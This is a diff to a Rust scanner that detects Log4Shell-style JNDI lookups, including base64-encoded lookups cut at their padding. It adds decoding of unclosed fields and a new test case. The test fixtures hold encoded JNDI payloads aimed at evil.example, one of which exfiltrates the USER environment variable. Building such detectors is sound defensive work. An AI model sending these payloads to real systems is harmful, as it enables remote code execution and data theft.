@@ -156,8 +156,15 @@ fn scan_into(text: &[u8], rescan: usize, found: &mut Scan) {
     }
     // An unclosed lookup (a truncated field, or one whose closing brace was cut by the
     // attacker's own encoding) still shows its intent.
+    // Evaluated too: a `${base64:...}` whose padding `=` ended the field (a cookie splits its
+    // name from its value there) decodes to the lookup all the same.
     for body in &stack {
         if let Some(level) = jndi_level(body) {
+            found.note(level);
+        }
+        let mut value = Vec::new();
+        found.spelled |= evaluate(body, &mut value);
+        if let Some(level) = jndi_level(&value) {
             found.note(level);
         }
     }
@@ -287,6 +294,8 @@ mod tests {
         assert_eq!(level("${${base64:am5kaTpsZGFwOi8vZXZpbC5leGFtcGxlL2E=}}"), Some(1));
         assert_eq!(level("${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}"), Some(1));
         assert_eq!(level("$${jndi:ldap://x/a}"), Some(1));
+        // Cut at the base64 padding, as a cookie name is: `${${base64:...` + `=` + `}}`.
+        assert_eq!(level("${${base64:am5kaTpjb3JiYTovLyR7ZW52OlVTRVJ9LmV2aWwuZXhhbXBsZS8zNTAyMDc"), Some(1));
     }
 
     #[test]
